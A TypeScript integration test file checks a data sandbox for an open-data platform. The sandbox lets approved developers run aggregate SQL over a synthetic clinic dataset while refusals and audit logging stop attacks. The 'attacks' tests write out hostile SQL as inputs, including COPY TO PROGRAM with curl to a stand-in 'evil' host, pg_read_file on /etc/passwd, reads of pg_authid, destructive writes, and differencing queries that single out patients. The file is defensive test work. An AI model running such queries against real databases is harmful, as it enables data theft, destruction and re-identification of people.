import { Client } from 'pg';
import { eventually, startTestPlatform, TestPlatform } from '../../../../test/test-platform';
import { demoCreditCode } from '../../../catalog/src/demo/demo-city.seeder';
import { ServiceApi, uploadFile, waitForJob } from '../../../ingest/test/ingest-fixtures';
import { idNumber, OpenApi, publishOpenDataset, relaxLimits } from '../../test/open-fixtures';
import { OpenSandboxRoles } from './open-sandbox-roles';
import { OPEN_SANDBOX_SETTINGS, OpenSandboxClock, OpenSandboxService } from './open-sandbox.service';

/**
 * 有条件开放 · 数据沙箱: a developer whose application was approved with access type `sandbox` computes
 * over the dataset without receiving rows. The attacks of issue 10, through the developer's door.
 * k = 5 (SECURITY_MIN_K default).
 */
let p: TestPlatform;
let api: OpenApi;
let ingest: ServiceApi;
let devToken: string;
let otherDevToken: string;
let appId: string;
let apiKey: string;
let application: string;
let clinic: { entryId: string; datasetId: string };
const applications: string[] = [];

const DISTRICTS = ['鄂城区', '华容区', '梁子湖区', '葛店', '临空', '红莲湖'];
const ITEMS = [
  { name: '身份证号', dataType: 'C', length: 18, personal: true, masking: 'idNumber' },
  { name: '区县', dataType: 'C', length: 20 },
  { name: '性别', dataType: 'C', length: 2 },
  { name: '出生年份', dataType: 'C', length: 4 },
  { name: '诊断', dataType: 'C', length: 20 },
  { name: '费用', dataType: 'Y', length: 20 },
];
/** 300 people: 6 districts × 2 sexes × 50 birth years; every third one has 感冒 (100). */
const person = (i: number) => [idNumber(i), DISTRICTS[i % 6], i % 2 ? '女' : '男', String(1950 + (i % 50)), i % 3 === 0 ? '感冒' : '高血压', String((i % 10) * 100 + 50)].join(',');
const csv = (ids: number[]) => ['身份证号,区县,性别,出生年份,诊断,费用', ...ids.map(person)].join('\n') + '\n';
const range = (n: number, from = 0) => Array.from({ length: n }, (_, i) => from + i);

async function apply(token: string, app: string, accessType?: 'records' | 'sandbox'): Promise<string> {
  const body = { datasetId: clinic.entryId, appId: app, organisation: '示范健康科技有限公司', creditCode: demoCreditCode('420200', 31), purpose: '慢病流行情况统计研究', scenario: '公共卫生统计分析', commitments: '不再识别个人，不转让，结果仅用于研究，到期销毁', accessType };
  const created = await api.expect(201, 'POST', '/v1/applications', { token, body });
  expect(created.accessType).toBe(accessType ?? 'records');
  applications.push(created.id);
  return created.id;
}

beforeAll(async () => {
  p = await startTestPlatform();
  relaxLimits(p);
  const [opToken, adminToken] = await Promise.all([p.login('scjg_op'), p.login('admin')]);
  const op = new ServiceApi(p.baseUrl, 'catalog', opToken);
  ingest = new ServiceApi(p.baseUrl, 'ingest', opToken);
  api = new OpenApi(p.baseUrl);
  clinic = await publishOpenDataset(p, op, new ServiceApi(p.baseUrl, 'catalog', adminToken), ingest, { name: '居民门诊统计样本', items: ITEMS, open: 'CONDITIONAL', grade: 'L2', csv: csv(range(300)) });
  devToken = (await api.expect(201, 'POST', '/v1/developers', { body: { email: 'sandbox@example.com', password: 'Secret#2026', name: '研究员甲' } })).accessToken;
  otherDevToken = (await api.expect(201, 'POST', '/v1/developers', { body: { email: 'other@example.com', password: 'Secret#2026', name: '研究员乙' } })).accessToken;
  const app = await api.expect(201, 'POST', '/v1/developers/me/apps', { token: devToken, body: { name: '慢病统计' } });
  appId = app.id;
  apiKey = app.key.apiKey;
  application = await apply(devToken, appId, 'sandbox');
  const rev = await p.login('scjg_rev');
  await api.expect(200, 'POST', `/v1/admin/applications/${application}/decide`, { token: rev, body: { approve: true, terms: '仅在数据沙箱内计算，只取聚合结果', endDate: '2099-12-31' } });
}, 240_000);

afterAll(async () => {
  p?.server.apps['open-api'].get(OpenSandboxClock).set(undefined);
  await p?.close();
  // Roles are cluster-wide: drop this run's.
  const c = new Client({ connectionString: process.env.DATABASE_URL ?? p?.db.url });
  await c.connect().catch(() => undefined);
  try {
    const hex = applications.map((a) => a.replace(/-/g, ''));
    const { rows } = await c.query(`SELECT rolname FROM pg_roles WHERE rolname LIKE 'opensandbox_%'`);
    for (const r of rows) if (hex.some((h) => r.rolname.endsWith(h)) || r.rolname.startsWith('opensandbox_set_')) await c.query(`DROP ROLE IF EXISTS "${r.rolname}"`).catch(() => undefined);
  } finally {
    await c.end().catch(() => undefined);
  }
});

const job = (sql: string, tables: Record<string, string> = { people: application }, token = devToken) => api.call('POST', '/v1/sandbox/jobs', { token, body: { tables, sql } });

async function refused(sql: string, code: string, tables?: Record<string, string>, token?: string): Promise<any> {
  const res = await job(sql, tables, token);
  expect({ status: res.status, code: res.body?.code }).toEqual({ status: code === 'OPEN_SANDBOX_NOT_APPROVED' ? 403 : 422, code });
  expect(res.headers.get('content-type')).toContain('application/problem+json');
  expect(res.body.message.zh).toBeTruthy();
  expect(res.body.message.en).toBeTruthy();
  return res.body;
}

async function jobEvents(): Promise<any[]> {
  const { rows } = await p.pool.query(`SELECT envelope FROM openapi.outbox WHERE event_name = 'security.sandbox.job' ORDER BY seq`);
  return rows.map((r) => r.envelope);
}

describe('released aggregates', () => {
  it('runs a GROUP BY over the opened dataset, keeps the result for download and audits the job', async () => {
    const res = await job(`SELECT "区县", count(*) AS n, avg("费用") AS avg_fee FROM people GROUP BY "区县" ORDER BY "区县"`);
    expect(res.status).toBe(201);
    expect(res.body).toMatchObject({ status: 'released', columns: ['区县', 'n', 'avg_fee'], resultRows: 6, applicationIds: [application], appId, entryId: clinic.entryId });
    const result = await api.expect(200, 'GET', `/v1/sandbox/jobs/${res.body.id}/result`, { token: devToken });
    expect(result.rows.map((r: unknown[]) => Number(r[1]))).toEqual([50, 50, 50, 50, 50, 50]);
    const file = await api.call('GET', `/v1/sandbox/jobs/${res.body.id}/result?format=csv`, { token: devToken });
    expect(file.headers.get('content-type')).toContain('text/csv');
    expect(file.raw.toString('utf8')).toContain('区县,n,avg_fee');
    expect((await api.expect<any[]>(200, 'GET', '/v1/sandbox/jobs', { token: devToken })).map((j) => j.id)).toContain(res.body.id);
    // Another developer cannot see it.
    expect((await api.call('GET', `/v1/sandbox/jobs/${res.body.id}/result`, { token: otherDevToken })).body.code).toBe('SANDBOX_JOB_NOT_FOUND');
    const event = (await jobEvents()).find((e) => e.payload.jobId === res.body.id);
    expect(event.payload).toMatchObject({ status: 'released', resultRows: 6, grantIds: [application], userId: expect.stringMatching(/^developer:/), sql: expect.stringContaining('GROUP BY') });
    expect(event.actor).toMatchObject({ type: 'app', id: appId });
    const { rows } = await p.pool.query(`SELECT envelope FROM openapi.outbox WHERE event_name = 'open.data.accessed' AND envelope->'payload'->>'kind' = 'sandbox'`);
    expect(rows.map((r) => r.envelope.payload)).toEqual([expect.objectContaining({ channel: 'open', outcome: 'allowed', entryId: clinic.entryId, appId, rowCount: 6, fields: ['区县', 'n', 'avg_fee'] })]);
    expect(rows[0].envelope.actor).toMatchObject({ type: 'app', id: appId });
  });

  it('a sandbox application gives no rows: the records API and downloads stay closed to the app', async () => {
    const read = await api.call('GET', `/v1/datasets/${clinic.entryId}/records`, { key: apiKey });
    expect([read.status, read.body.code]).toEqual([403, 'OPEN_CONDITIONAL_NOT_APPROVED']);
    const download = await api.call('GET', `/v1/datasets/${clinic.entryId}/download?format=csv`, { key: apiKey });
    expect(download.status).toBe(403);
  });

  it('expires results after SECURITY_SANDBOX_RESULT_HOURS and the sweeper deletes them', async () => {
    const res = await job(`SELECT "性别", count(*) AS n FROM people GROUP BY "性别"`);
    expect(res.status).toBe(201);
    const settings = p.server.apps['open-api'].get(OPEN_SANDBOX_SETTINGS);
    const clock = p.server.apps['open-api'].get(OpenSandboxClock);
    clock.set(new Date(Date.now() + (settings.sandboxResultHours + 1) * 3_600_000));
    try {
      expect((await api.call('GET', `/v1/sandbox/jobs/${res.body.id}/result`, { token: devToken })).body.code).toBe('SANDBOX_RESULT_EXPIRED');
      expect(await p.server.apps['open-api'].get(OpenSandboxService).purgeExpired()).toBeGreaterThanOrEqual(1);
      const { rows } = await p.pool.query(`SELECT result, status, result_rows FROM openapi.sandbox_job WHERE id=$1`, [res.body.id]);
      expect(rows[0]).toEqual({ result: null, status: 'released', result_rows: 2 });
    } finally {
      clock.set(undefined);
    }
  });
});

describe('the sandbox role (defence in depth)', () => {
  it('reads the opened dataset’s copy and nothing else of the open-api schema', async () => {
    const { rows } = await p.pool.query(`SELECT table_name FROM openapi.open_dataset WHERE entry_id=$1`, [clinic.entryId]);
    const c = new Client({ connectionString: p.db.url });
    await c.connect();
    try {
      await c.query('BEGIN READ ONLY');
      await c.query(`SET LOCAL ROLE "${p.server.apps['open-api'].get(OpenSandboxRoles).roleOf(application)}"`);
      expect((await c.query(`SELECT count(*)::int AS n FROM openapi."${rows[0].table_name}"`)).rows[0].n).toBe(300);
      await c.query('ROLLBACK');
      for (const other of ['openapi.developer', 'openapi.api_key', 'openapi.conditional_application', 'openapi.sandbox_job']) {
        await c.query('BEGIN READ ONLY');
        await c.query(`SET LOCAL ROLE "${p.server.apps['open-api'].get(OpenSandboxRoles).roleOf(application)}"`);
        await expect(c.query(`SELECT count(*) FROM ${other}`)).rejects.toMatchObject({ code: '42501' });
        await c.query('ROLLBACK');
      }
    } finally {
      await c.end();
    }
  });
});

describe('who may run jobs', () => {
  it('needs a developer token, the developer’s own approved application of type sandbox', async () => {
    expect((await api.call('POST', '/v1/sandbox/jobs', { body: { tables: { people: application }, sql: 'SELECT count(*) AS n FROM people' } })).body.code).toBe('OPEN_DEVELOPER_REQUIRED');
    await refused(`SELECT "区县", count(*) AS n FROM people GROUP BY 1`, 'OPEN_SANDBOX_NOT_APPROVED', { people: application }, otherDevToken);
    const pending = await apply(devToken, appId, 'sandbox');
    await refused(`SELECT "区县", count(*) AS n FROM people GROUP BY 1`, 'OPEN_SANDBOX_NOT_APPROVED', { people: pending });
    const otherApp = await api.expect(201, 'POST', '/v1/developers/me/apps', { token: devToken, body: { name: '接口调用' } });
    const records = await apply(devToken, otherApp.id, 'records');
    await p.pool.query(`UPDATE openapi.conditional_application SET status='approved', end_date='2099-12-31' WHERE id=$1`, [records]);
    await refused(`SELECT "区县", count(*) AS n FROM people GROUP BY 1`, 'OPEN_SANDBOX_NOT_APPROVED', { people: records });
    // The records approval still passes the gate for that app (access types do not leak into each other);
    // the rows themselves may be withheld by the k-anonymity check before opening, which the sandbox does not need.
    const read = await api.call('GET', `/v1/datasets/${clinic.entryId}/records`, { key: otherApp.key.apiKey });
    expect([200, 'OPEN_RELEASE_REFUSED_K_ANONYMITY']).toContain(read.status === 200 ? 200 : read.body?.code);
    await p.pool.query(`UPDATE openapi.conditional_application SET end_date='2020-01-01' WHERE id=$1`, [application]);
    try {
      await refused(`SELECT "区县", count(*) AS n FROM people GROUP BY 1`, 'OPEN_SANDBOX_NOT_APPROVED');
    } finally {
      await p.pool.query(`UPDATE openapi.conditional_application SET end_date='2099-12-31' WHERE id=$1`, [application]);
    }
  });
});

describe('attacks', () => {
  it.each([[`DELETE FROM people`], [`UPDATE people SET "费用" = 0`], [`SELECT count(*) INTO leak FROM people`], [`COPY people TO PROGRAM 'curl http://evil'`]])('writes are refused: %s', async (sql) => {
    await refused(sql, 'SANDBOX_READ_ONLY');
  });

  it.each([[`SELECT pg_read_file('/etc/passwd')`], [`SELECT count(*) FROM people WHERE pg_sleep(60) IS NULL`]])('file, network and sleeping functions are refused: %s', async (sql) => {
    await refused(sql, 'SANDBOX_FUNCTION_FORBIDDEN');
  });

  it.each([[`SELECT count(*) FROM openapi.developer`], [`SELECT count(*) FROM pg_catalog.pg_authid`], [`SELECT count(*) FROM api_key`]])('other tables and schemas are refused: %s', async (sql) => {
    await refused(sql, 'SANDBOX_TABLE_FORBIDDEN');
  });

  it('row-level output and raw personal items are refused', async () => {
    await refused(`SELECT * FROM people`, 'SANDBOX_ROW_LEVEL');
    await refused(`SELECT "身份证号", count(*) AS n FROM people GROUP BY 1`, 'SANDBOX_SENSITIVE_OUTPUT');
    await refused(`SELECT max("身份证号") AS m FROM people`, 'SANDBOX_SENSITIVE_OUTPUT');
  });

  it('LIMIT 1 on a GROUP BY of a unique key cannot single a person out', async () => {
    const body = await refused(`SELECT count(*) AS n, avg("费用") AS fee FROM people GROUP BY "身份证号" LIMIT 1`, 'SANDBOX_GROUP_TOO_SMALL');
    expect(body.minK).toBe(5);
  });

  it('differencing: two aggregates whose rows differ by fewer than k rows', async () => {
    const first = await job(`SELECT count(*) AS n, sum("费用") AS total FROM people WHERE "诊断" = '感冒'`);
    expect(first.status).toBe(201);
    // Leaves out the two 感冒 patients born 1950 in 鄂城区: the totals' difference is their fees.
    const body = await refused(`SELECT count(*) AS n, sum("费用") AS total FROM people WHERE "诊断" = '感冒' AND NOT ("出生年份" = '1950' AND "区县" = '鄂城区')`, 'SANDBOX_DIFFERENCING');
    expect(body.earlierJobId).toBe(first.body.id);
  });

  it('queries that would run for ever are stopped', async () => {
    const settings = p.server.apps['open-api'].get(OPEN_SANDBOX_SETTINGS);
    const before = settings.sandboxTimeoutMs;
    settings.sandboxTimeoutMs = 300;
    try {
      await refused(`SELECT count(*) AS n FROM people a, people b, people c, people d`, 'SANDBOX_TIMEOUT');
    } finally {
      settings.sandboxTimeoutMs = before;
    }
  });

  it('differencing across versions: the same aggregate after a new version added one person is refused', async () => {
    const sql = `SELECT count(*) AS n, avg("费用") AS fee FROM people WHERE "诊断" = '高血压'`;
    expect((await job(sql)).status).toBe(201);
    // Version 2 inserts one 高血压 patient (i = 301) at the top: every row moves, one person is new.
    const upload = await uploadFile(ingest, clinic.datasetId, 'v2.csv', Buffer.from(csv([301, ...range(300)]), 'utf8'));
    expect((await waitForJob(ingest, upload.body.id)).state).toBe('succeeded');
    await eventually(async () => {
      const { rows } = await p.pool.query(`SELECT data_version FROM openapi.open_dataset WHERE entry_id=$1`, [clinic.entryId]);
      return rows[0]?.data_version === 2 ? true : undefined;
    }, 30_000);
    const body = await refused(sql, 'SANDBOX_DIFFERENCING');
    expect(body.message.zh).toContain('版本');
    // Unchanged groups are the same answer in the new version.
    expect((await job(`SELECT count(*) AS n, sum("费用") AS total FROM people WHERE "诊断" = '感冒'`)).status).toBe(201);
  });

  it('every refused or stopped job is stored and audited; the security officer lists them, departments see their own', async () => {
    const events = (await jobEvents()).map((e) => e.payload);
    const codes = new Set(events.filter((e) => e.status !== 'released').map((e) => e.reasonCode));
    for (const c of ['SANDBOX_READ_ONLY', 'SANDBOX_FUNCTION_FORBIDDEN', 'SANDBOX_TABLE_FORBIDDEN', 'SANDBOX_ROW_LEVEL', 'SANDBOX_SENSITIVE_OUTPUT', 'SANDBOX_GROUP_TOO_SMALL', 'SANDBOX_DIFFERENCING', 'SANDBOX_TIMEOUT', 'OPEN_SANDBOX_NOT_APPROVED'])
      expect(codes).toContain(c);
    const { rows } = await p.pool.query(`SELECT count(*)::int AS n FROM openapi.sandbox_job WHERE status <> 'released'`);
    expect(rows[0].n).toBe(events.filter((e) => e.status !== 'released').length);
    const aqg = await p.login('aqg');
    const { items: listed, total } = await api.expect(200, 'GET', '/v1/admin/sandbox/jobs?code=SANDBOX_DIFFERENCING', { token: aqg });
    expect(listed.length).toBeGreaterThanOrEqual(2);
    expect(total).toBe(listed.length);
    expect(listed.every((j: any) => j.reasonCode === 'SANDBOX_DIFFERENCING')).toBe(true);
    const file = await api.call('GET', '/v1/admin/sandbox/jobs?format=csv&status=failed', { token: aqg });
    expect(file.raw.toString('utf8')).toContain('SANDBOX_TIMEOUT');
    expect((await api.expect(200, 'GET', '/v1/admin/sandbox/jobs?code=SANDBOX_DIFFERENCING', { token: await p.login('scjg_rev') })).total).toBe(total);
    expect(await api.expect(200, 'GET', '/v1/admin/sandbox/jobs', { token: await p.login('rsj_rev') })).toEqual({ items: [], total: 0, page: 1, pageSize: 20 });
    // Paged on the server in a fixed order: page by page gives every job once, as one big page does.
    const all = await api.expect(200, 'GET', '/v1/admin/sandbox/jobs?pageSize=100', { token: aqg });
    expect(all.total).toBe(rows[0].n);
    const paged: string[] = [];
    for (let page = 1; (page - 1) * 3 < all.total; page++) paged.push(...(await api.expect(200, 'GET', `/v1/admin/sandbox/jobs?pageSize=3&page=${page}`, { token: aqg })).items.map((j: any) => j.id));
    expect(paged).toEqual(all.items.map((j: any) => j.id));
    const csvLines = (await api.call('GET', '/v1/admin/sandbox/jobs?format=csv&pageSize=1', { token: aqg })).raw.toString('utf8');
    expect(csvLines).toContain('SANDBOX_DIFFERENCING');
    for (const bad of ['pageSize=0', 'pageSize=101', 'page=0', 'status=bogus']) expect((await api.call('GET', `/v1/admin/sandbox/jobs?${bad}`, { token: aqg })).status).toBe(400);
    expect((await api.call('GET', '/v1/admin/sandbox/jobs', { token: await p.login('rsj_op') })).status).toBe(403);
  });
});
